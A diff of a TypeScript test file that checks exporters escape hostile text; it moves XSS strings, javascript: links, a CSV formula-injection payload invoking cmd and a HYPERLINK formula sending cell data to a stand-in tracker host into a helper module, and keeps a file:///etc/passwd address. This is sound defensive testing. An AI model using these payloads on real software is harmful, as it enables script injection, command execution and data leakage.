@@ -1,53 +1,10 @@
 import { parseHTML } from 'linkedom';
 import { describe, expect, it } from 'vitest';
 import { readCsv, safeField } from '../../../lib/exchange/csv.ts';
-import type { ExportInput } from '../../../lib/exchange/exporter.ts';
 import { exporters } from '../../../lib/exchange/exporters.ts';
-import { observe } from '../../../lib/ledger/observe.ts';
-import { figureEntry } from '../ledger/sample-session.ts';
-import { sampleExport } from './sample-export.ts';
+import { hostile, hostileExport } from './hostile-export.ts';
 
-const script = '<script>alert(1)</script><img src=x onerror=alert(1)>"\'><svg onload=alert(1)>';
-const link =
-  '![a](https://tracker.example/1.png) [b](javascript:alert(1)) &lt;b&gt; <https://x.example>';
-const formula = '=HYPERLINK("https://tracker.example/"&A1);=cmd|\' /C calc\'!A0\t@SUM(1)';
-const hostile = `${formula} ${script} ${link} \u202e\u0007`;
-
-/** The sample with an attack in every text that a page, a file or the reader may give. */
-function hostileExport(address: string): ExportInput {
-  const sample = sampleExport();
-  const [first] = sample.articles;
-  if (!first) throw new Error('no article');
-  const article = {
-    ...first.article,
-    url: address,
-    title: hostile,
-    publisher: hostile,
-    outlet: hostile,
-    tags: [hostile],
-    note: hostile,
-  };
-  const plainEntry = figureEntry('f0', `${hostile} 74 عضوا`, '74', {
-    metric: 'coalition.members',
-    verdict: 'agrees',
-  });
-  if (plainEntry.type !== 'figure') throw new Error('no figure');
-  const figure = { ...plainEntry.figure, statements: ['members-2017'] };
-  const entry = { ...plainEntry, figure };
-  const source = { title: hostile, publisher: hostile, url: address, date: null };
-  const set = sample.set && {
-    ...sample.set,
-    metrics: sample.set.metrics.map((metric) => ({
-      ...metric,
-      labels: { ar: hostile, en: hostile },
-    })),
-    statements: sample.set.statements.map((each) => ({ ...each, sources: [source] })),
-  };
-  const observation = observe(article, entry, { tags: [hostile], note: hostile });
-  return { ...sample, set, articles: [{ article, observations: [observation] }] };
-}
-
-const addresses = ['https://x.example/> <img src=x onerror=alert(1)>', 'file:///etc/passwd'];
+const addresses = ['https://x.example/> <img src=x onerror=window.wasRun=1>', 'file:///etc/passwd'];
 const write = (id: string, address: string): string =>
   exporters.find((exporter) => exporter.id === id)?.write(hostileExport(address)) ?? '';
 
@@ -67,7 +24,7 @@ describe.each(addresses)('exports of texts that attack, from %s', (address) => {
     expect(document.querySelector('meta[http-equiv]')?.getAttribute('content')).toContain(
       "default-src 'none'",
     );
-    expect(document.body.textContent).toContain('<script>alert(1)</script>');
+    expect(document.body.textContent).toContain('<script>window.wasRun=1</script>');
   });
 
   it('hold no markup, picture or foreign link in what is read as Markdown', () => {
